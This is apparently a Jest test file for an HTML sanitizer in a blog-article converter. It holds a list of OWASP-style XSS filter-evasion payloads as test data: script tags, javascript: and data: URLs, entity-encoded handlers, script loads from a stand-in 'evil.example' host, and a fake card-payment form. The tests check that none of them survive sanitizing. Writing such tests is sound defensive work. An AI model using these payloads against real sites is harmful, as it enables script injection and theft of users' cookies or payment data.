/** @jest-environment jsdom */
import { convertBody } from './convert';
import { ALLOWED_BODY_TAGS, sanitizeArticleHtml } from './sanitize';

/** Filter-evasion payloads in the style of the OWASP XSS cheat sheet. */
const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(\'XSS\')>',
  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
  '<IMG SRC=`javascript:alert("XSS")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=//evil.example/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=http://evil.example/scriptlet.html <',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<svg/onload=alert(\'XSS\')>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="  JaVaScRiPt:alert(1)">spaced</a>',
  '<a href="java&#x0D;script:alert(1)">cr</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">colon entity</a>',
  '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
  '<p onclick=alert(1) ONMOUSEOVER=alert(2)>unquoted handlers</p>',
  '<p><a href="https://ok.example" onfocus="x()" autofocus>nested handler</a></p>',
  '<div><p><b><i><a href="javascript:alert(1)"><img src="javascript:alert(2)">deep</a></i></b></p></div>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<details open ontoggle=alert(1)>',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="//evil.example/protocol-relative">pr</a>',
];

const URL_ATTRIBUTES = ['href', 'src'];
const SAFE_URL = /^(?:https?:|mailto:|tel:|\/(?!\/)|#)/i;

/** Parses the output like a browser and lists everything that could run script. */
function dangers(html: string): string[] {
  const problems: string[] = [];
  if (/<script/i.test(html)) problems.push('literal <script');
  const root = document.createElement('div');
  root.innerHTML = html;
  for (const element of Array.from(root.querySelectorAll('*'))) {
    const tag = element.tagName.toLowerCase();
    if (!(ALLOWED_BODY_TAGS as readonly string[]).includes(tag)) problems.push(`tag <${tag}>`);
    for (const attribute of Array.from(element.attributes)) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on')) problems.push(`${tag}[${name}]`);
      if (name === 'style') problems.push(`${tag}[style]`);
      if (URL_ATTRIBUTES.includes(name) && !SAFE_URL.test(attribute.value.trim())) problems.push(`${tag}[${name}=${attribute.value}]`);
    }
  }
  // No tag of the output may carry a handler or script URL, even one the DOM would not parse.
  for (const tag of html.match(/<[^>]+>/g) ?? []) {
    if (/\son[a-z]+\s*=/i.test(tag)) problems.push(`handler in ${tag}`);
    if (/(?:javascript|vbscript|data):/i.test(tag)) problems.push(`script URL in ${tag}`);
  }
  return problems;
}

describe('XSS: no payload survives sanitizing', () => {
  it('has at least 30 payloads', () => {
    expect(XSS_PAYLOADS.length).toBeGreaterThanOrEqual(30);
  });

  it.each(XSS_PAYLOADS.map((payload) => [payload]))('fragment: %s', (payload) => {
    expect(dangers(sanitizeArticleHtml(payload))).toEqual([]);
    expect(dangers(convertBody(payload))).toEqual([]);
  });

  it.each(XSS_PAYLOADS.map((payload) => [payload]))('inside an exported document: %s', (payload) => {
    const page = `<!DOCTYPE html><html><head><style>.c1{font-weight:700}</style></head><body><p class="c1">Intro</p>${payload}<p>Outro</p></body></html>`;
    expect(dangers(convertBody(page))).toEqual([]);
  });

  it.each(XSS_PAYLOADS.map((payload) => [payload]))('as plain text: %s', (payload) => {
    expect(dangers(convertBody(`What is this?\n\n${payload.replace(/<[a-z]/gi, (match) => match)}`))).toEqual([]);
  });
});

describe('sanitizing keeps good content', () => {
  it('keeps the allowed structure', () => {
    const html = '<h2>A</h2><h3>B</h3><p>x<br />y</p><ul><li>1</li></ul><ol start="3"><li>2</li></ol><blockquote><p>q</p></blockquote><table><thead><tr><th scope="col">h</th></tr></thead><tbody><tr><td>d</td></tr></tbody></table>';
    expect(sanitizeArticleHtml(html)).toBe(html);
  });
  it('maps h1, b and i to h2, strong and em', () => {
    expect(sanitizeArticleHtml('<h1>T</h1><b>b</b><i>i</i>')).toBe('<h2>T</h2><strong>b</strong><em>i</em>');
  });
  it('gives external links rel="noopener noreferrer" and a new tab', () => {
    expect(sanitizeArticleHtml('<a href="https://www.dpor.virginia.gov" target="_self" rel="opener">DPOR</a>')).toBe(
      '<a href="https://www.dpor.virginia.gov" rel="noopener noreferrer" target="_blank">DPOR</a>',
    );
  });
  it('leaves internal and site-relative links in the same tab', () => {
    expect(sanitizeArticleHtml('<a href="/contact">Contact</a>')).toBe('<a href="/contact">Contact</a>');
    expect(sanitizeArticleHtml('<a href="https://tidewater.example/blog">Blog</a>', { internalHosts: ['tidewater.example'] })).toBe(
      '<a href="https://tidewater.example/blog">Blog</a>',
    );
  });
  it('keeps mailto and tel links', () => {
    expect(sanitizeArticleHtml('<a href="tel:+17575550147">Call</a>')).toBe('<a href="tel:+17575550147">Call</a>');
  });
  it('keeps images lazy, with numeric sizes only', () => {
    expect(sanitizeArticleHtml('<img src="https://lh3.googleusercontent.com/a" alt="Roof" width="640" height="abc">')).toBe(
      '<img loading="lazy" decoding="async" alt="Roof" src="https://lh3.googleusercontent.com/a" width="640" />',
    );
  });
  it('allows only the brand class', () => {
    expect(sanitizeArticleHtml('<strong class="brand evil">x</strong><p class="brand">y</p>')).toBe('<strong class="brand">x</strong><p>y</p>');
  });
});
